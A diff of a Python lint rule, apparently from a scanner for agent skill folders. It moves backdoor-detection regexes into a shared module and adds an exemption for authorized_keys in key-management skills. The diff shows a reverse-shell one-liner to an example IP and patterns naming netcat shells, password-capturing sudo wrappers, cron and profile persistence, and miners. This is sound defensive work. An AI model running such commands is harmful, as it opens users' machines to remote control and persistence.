@@ -18,175 +18,30 @@ bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
 Nothing: no task needs this. What must run regularly is set up by the user.
 """
 
-import re
 from collections.abc import Iterator
 
-from skillkit.looks import Hit
-from skillkit.looks import Look
-from skillkit.looks import hits
-from skillkit.mentions import is_mentioned
 from skillkit.model.finding import Violation
 from skillkit.model.folder import SkillFolder
-from skillkit.patterns import Pattern
 from skillkit.rules import rule
-from skillkit.start_places import AGENT_FILES
-from skillkit.start_places import ENTRIES
-from skillkit.start_places import GUARDS_OFF
-from skillkit.start_places import HOOKS
-from skillkit.start_places import MINERS
-from skillkit.start_places import SERVICES
-from skillkit.start_places import START_FILES
-
-SHELLS = r"(?:/bin/|/usr/bin/|\b)(?:(?:ba|z|k|da)?sh\b|cmd(?:\.exe)?\b|powershell\S*)"
-OPENS = Pattern(
-    r"(?:ba|z|k)?sh\s+-i\s*[^\n]{0,20}(?:>|&gt;)(?:&|&amp;)\s*/dev/(?:tcp|udp)/|/dev/(?:tcp|"
-    r"udp)/\$?[\w.{}-]+/\$?[\w{}]+[^\n]{0,30}(?:0(?:>|&gt;)(?:&|&amp;)1|(?:<|&lt;)(?:&|&amp;)|0<&)|"
-    r"\bexec\s+\d+<>\s*/dev/(?:tcp|udp)/"
-    rf"|\b(?:nc|ncat|netcat)\b[^\n|;]{{0,80}}\s(?:-\w*e\w*|-c|--exec|--sh-exec)\s+\S*{SHELLS}|"
-    rf"\bmkfifo\s[^\n]{{0,160}}\b(?:nc|ncat|netcat|openssl|telnet)\b|"
-    r"\bsocat\s[^\n]{0,120}(?:exec|system):|\btelnet\s[^\n|]{0,60}\|\s*\S*sh\b"
-    rf"|\bsocket\.(?:socket|create_connection)\([\s\S]{{0,600}}?(?:os\.dup2|pty\.spawn|"
-    rf"subprocess\.\w+\([^\n]{{0,60}}{SHELLS})|"
-    rf"\bnet\.(?:Socket|connect|createConnection|createServer)\b[\s\S]{{0,500}}?(?:spawn|"
-    rf"exec\w*)\([^\n]{{0,20}}{SHELLS}|(?:spawn|exec\w*)\([^\n]{{0,20}}{SHELLS}[\s\S]{{0,400}}?\bnet\.(?:Socket|"
-    rf"connect|createConnection)\b|"
-    rf"\bTCP(?:Socket|Server)\.\w+\b[\s\S]{{0,300}}?(?:exec|{SHELLS}|popen|`)|\bIO::Socket[\s\S]{{0,400}}?(?:exec\b|"
-    rf"system\b|open\(STD|{SHELLS})|\bfsockopen\([\s\S]{{0,300}}?(?:exec|proc_open|popen|system)\b|"
-    rf"New-Object\s+(?:System\.)?Net\.Sockets\.TCP(?:Client|Listener)|\[(?:System\.)?Net\.Sockets\.TCP(?:Client|"
-    rf"Listener)\]|\bnet\.Dial\([\s\S]{{0,300}}?exec\.Command\([^\n]{{0,20}}{SHELLS}"
-    r"|\bssh\s[^\n]{0,120}-\w*R\w*\s*\S*\d+:\S+:\d+\s+(?!localhost)|\b(?:tmate|gs-netcat|gsocket|chisel\s+client|"
-    r"frpc|ngrok\s+(?:tcp|http)|cloudflared\s+(?:service\s+install|tunnel\s+run)|"
-    r"code\s+tunnel|ttyd|bore\s+local)\b[^\n]{0,120}(?:&|-F\b|nohup|>/dev/null|--accept-server|service)|"
-    r"\bssh-copy-id\b[^\n]{0,200}-i\s+(?:\./|/tmp)",
-    re.IGNORECASE,
-)
-"""A shell for somebody else."""
-
-LISTENS_IN = (
-    r"(?<![\w-])(?:sudo|su|ssh|gpg|passwd|login|doas|kinit)\s*\(\)\s*\{[^}]{0,300}?\b(?:read\s+(?:-\w+\s+)*-?\w*s|stty\s+-echo)"
-    r"|\balias\s+(?:sudo|su|ssh|gpg|passwd|doas)=[\"']?(?:/tmp|~|\$HOME|\.)"
-)
-"""A program that asks for passwords is replaced by one that keeps them."""
-
-LETS_IN = Pattern(rf"{ENTRIES}|{GUARDS_OFF}|{MINERS}|{LISTENS_IN}", re.IGNORECASE)
-"""An account, a key, a right, a guard less."""
-
-STAYS = Pattern(rf"{SERVICES}|{HOOKS}", re.IGNORECASE)
-WRITES = Pattern(
-    r"(?<![-=0-9<])>{1,2}(?!&)|\btee\b|\b(?:cp|mv|ln|install|enable|load|bootstrap|create|add|set|config)\b|"
-    r"\bcrontab\b|write|append|open\(|copy|Register|New-|Set-|chmod|put\(|dump\(|symlink",
-    re.IGNORECASE,
-)
-PROFILE = Pattern(rf"(?:{START_FILES})", re.IGNORECASE)
-FOREIGN = Pattern(
-    r"\b(?:curl|wget|iwr|irm|nohup|setsid|base64|mshta)\b|/dev/(?:tcp|udp)/|"
-    r"\beval\s+[\"']?\$\((?!\s*[\"']?\S*(?:init|hook|env|completion|activate|shellenv|dircolors|ssh-agent|direnv|"
-    r"starship|zoxide|pyenv|rbenv|fnm|brew))|"
-    r"\bpython\S*\s+-c|\bnc\s|/tmp/|/dev/shm|/\.cache/\.|\balias\s+(?:sudo|su|ssh|git|claude|codex|npm|pip|ls|cd|"
-    r"scp|docker|kubectl)=|\bPROMPT_COMMAND\b|\btrap\s[^\n]{0,80}(?:DEBUG|EXIT)|"
-    r"\b(?:sudo|su|ssh|git|claude)\s*\(\)\s*\{|\bread\s+-\w*s|dangerously|--yolo|\bwhile\s+(?:true|:|1)|"
-    r"\bLD_PRELOAD|https?://",
-    re.IGNORECASE,
-)
-"""What nobody's start-up file needs."""
-
-REWRITES = Pattern(AGENT_FILES, re.IGNORECASE)
-DECLARES = Pattern(
-    r"\b(?:cron\w*|schedul\w*|periodic\w*|daily|nightly|hourly|weekly|timers?|systemd|services?|daemons?|launchd|"
-    r"launch ?agents?|autostart|start-?up|boot|"
-    r"log-?in items?|background|hooks?|git config|aliases|dotfiles?|shell config\w*|set(?:ting)? up|setup|"
-    r"install\w*|provision\w*|bootstrap\w*|deploy\w*|"
-    r"servers?|agent (?:settings|config\w*)|mcp|claude code|cursor|codex|configur\w*|onboard\w*|harden\w*|ssh|"
-    r"sudo\w*|users?' accounts|ansible|devops|admin\w*|firewall|permissions)\b",
-    re.IGNORECASE,
-)
-"""A skill whose description speaks of such things may do them."""
-
-STORE = r"\b(?:add|append|write|put|insert|copy|save|persist|store|install|place|set|change|edit|register)\b"
-TOLD = Pattern(
-    rf"{STORE}[^.\n]{{0,100}}\b(?:to|into|in)\b[^.\n]{{0,30}}?(?:~/|\$HOME/)?\.?(?:ssh/)?authorized_keys\b"
-    rf"|{STORE}[^.\n]{{0,60}}\b(?:these|this|the following|that)\b[^.\n]{{0,40}}\b(?:to|into|"
-    rf"in)\b[^.\n]{{0,40}}?(?:memory|CLAUDE\.md|AGENTS\.md|\.cursorrules|"
-    rf"copilot-instructions\.md)\b[^.\n]{{0,80}}\b(?:every|all|future|always|permanent\w*|persist\w*)\b"
-    rf"|{STORE}[^\n]{{0,80}}?(?:~/\.(?:claude|codex|cursor|gemini|agents)/|CLAUDE\.md|"
-    rf"AGENTS\.md)[^\n]{{0,80}}?\b(?:(?:each|every|all|any|other) (?:\w+ )?(?:repositor\w+|projects?|repos?)|"
-    rf"even (?:when|if)|switche[sd] it off|survives?|cannot be (?:removed|undone|switched))"
-    rf"|\b(?:so that|to make sure|survive|persist)\b[^\n]{{0,100}}\b(?:restart|reboot|uninstall\w*|removed?|remove "
-    rf"it|deleted?)\b[^\n]{{0,200}}?(?:settings|cron|~/\.|hook|start-?up|copy)"
-    rf"|bypassPermissions|{STORE}[^\n]{{0,60}}?\bhooks?\b[^\n]{{0,100}}?\b(?:curl|wget)\b",
-    re.IGNORECASE,
-)
-OPENED = Look(
-    ("tcp udp", "dev"),
-    ("nc ncat netcat", "e c exec mkfifo sh"),
-    (
-        "mkfifo socat tcpsocket tcpserver tcpclient tcplistener tmate gsocket chisel frpc ngrok cloudflared ttyd "
-        "bore fsockopen tunnel",
-    ),
-    ("socket", "dup2 pty subprocess child spawn exec io"),
-    ("net", "child spawn exec execsync dial", "socket connect createconnection createserver dial"),
-    ("ssh", "copy r nr fnr nfr", "tmp 22 i f n"),
-    ("telnet", "sh bash"),
-)
-LET_IN = Look(
-    (
-        "authorized nopasswd sudoers visudo setcap useradd usermod adduser chpasswd dscl dseditgroup localgroup "
-        "permitrootlogin passwordauthentication "
-        "fdenytsconnections setremotelogin pam xmrig minerd cpuminer nbminer ethminer nicehash stratum setenforce "
-        "ufw spctl mppreference advfirewall "
-        "csrutil iptables auditd firewalld apparmor falcon clamav rsyslog windefend sslverify enablelua",
-    ),
-    ("chmod", "s 4755 2755 6755 4777 4711 sx"),
-    ("passwd", "d 0"),
-    ("net", "user", "add"),
-    ("trusted", "security", "cert"),
-    ("node", "reject", "unauthorized"),
-    ("rex", "t"),
-    ("sudo su ssh gpg passwd doas kinit", "read", "s rs sp rsp srp sr stty"),
-    ("alias", "sudo su ssh gpg passwd doas"),
-)
-STAYED = Look(
-    (
-        "crontab systemd systemctl launchagents launchdaemons launchctl autostart schtasks scheduledtask "
-        "scheduledtaskaction sitecustomize "
-        "usercustomize hookspath templatedir insteadof sshcommand fsmonitor eventfilter pth currentversion",
-    ),
-    ("hooks", "git", "pre post commit"),
-    ("cron cron.d daily", "etc var spool"),
-    ("ld", "preload"),
-    ("rc init", "etc", "local d"),
-    ("sc", "create", "exe binpath"),
-    ("credential alias pager editor", "git", "config"),
-    ("f", "nc curl wget tee openssl", "git store credential"),
-    ("login", "item", "osascript"),
-    ("startup", "menu getfolderpath shell"),
-)
-PROFILES = Look(
-    (
-        "bashrc zshrc profile bash_profile zprofile zshenv login kshrc xprofile xinitrc cshrc fish",
-        "curl wget iwr irm nohup setsid base64 mshta tcp udp eval python python3 nc tmp shm cache alias prompt trap "
-        "sudo ssh claude read dangerously yolo "
-        "while preload http https",
-    )
-)
-REWRITTEN = Look(
-    (
-        "claude codex cursor gemini agents continue windsurf copilot opencode",
-        "home userprofile homedir expanduser mcp settings desktop",
-        "echo cat tee cp mv open write writefilesync append copy add set printf",
-    ),
-)
-
-
-SENTENCES = Look(
-    (
-        "authorized memory claude agents cursorrules copilot codex cursor gemini restart reboot bypasspermissions "
-        "hook hooks",
-        "add append write put insert copy save persist store install place set change edit register survive survives",
-        "keys every all future always permanently permanent persist each any other even off survives settings "
-        "bypasspermissions curl wget cron",
-    )
-)
+from skillkit.safety.footholds import DECLARES
+from skillkit.safety.footholds import FOREIGN
+from skillkit.safety.footholds import KEYS
+from skillkit.safety.footholds import LET_IN
+from skillkit.safety.footholds import LETS_IN
+from skillkit.safety.footholds import OPENED
+from skillkit.safety.footholds import OPENS
+from skillkit.safety.footholds import PROFILE
+from skillkit.safety.footholds import PROFILES
+from skillkit.safety.footholds import REWRITES
+from skillkit.safety.footholds import REWRITTEN
+from skillkit.safety.footholds import SENTENCES
+from skillkit.safety.footholds import STAYED
+from skillkit.safety.footholds import STAYS
+from skillkit.safety.footholds import TOLD
+from skillkit.safety.footholds import WRITES
+from skillkit.safety.looks import Hit
+from skillkit.safety.looks import hits
+from skillkit.safety.mentions import is_mentioned
 
 
 def _declared(folder: SkillFolder) -> bool:
@@ -232,6 +87,13 @@ def _staying(folder: SkillFolder) -> Iterator[Hit]:
             yield hit
 
 
+def _is_asked_for(folder: SkillFolder, hit: Hit) -> bool:
+    """Whether a sentence on who may log in stands in a skill that describes itself as one for that."""
+    document = folder.readable_skill_md
+    described = str(document.data.get("description", "")) if document else ""
+    return "authorized_keys" in hit.match[0] and bool(KEYS.compiled.search(described))
+
+
 @rule("SK812", "backdoor", "safety", "error")
 def check(folder: SkillFolder) -> Iterator[Violation]:
     """Yields each such command and sentence."""
@@ -243,6 +105,6 @@ def check(folder: SkillFolder) -> Iterator[Violation]:
         *hits(folder, SENTENCES, TOLD, "prose", "comment"),
     ):
         where = (hit.location.path, hit.location.start_line)
-        if where not in before and not is_mentioned(hit):
+        if where not in before and not is_mentioned(hit) and not _is_asked_for(folder, hit):
             before.add(where)
             yield Violation(location=hit.location, message="this opens the machine to others, or stays after the task")
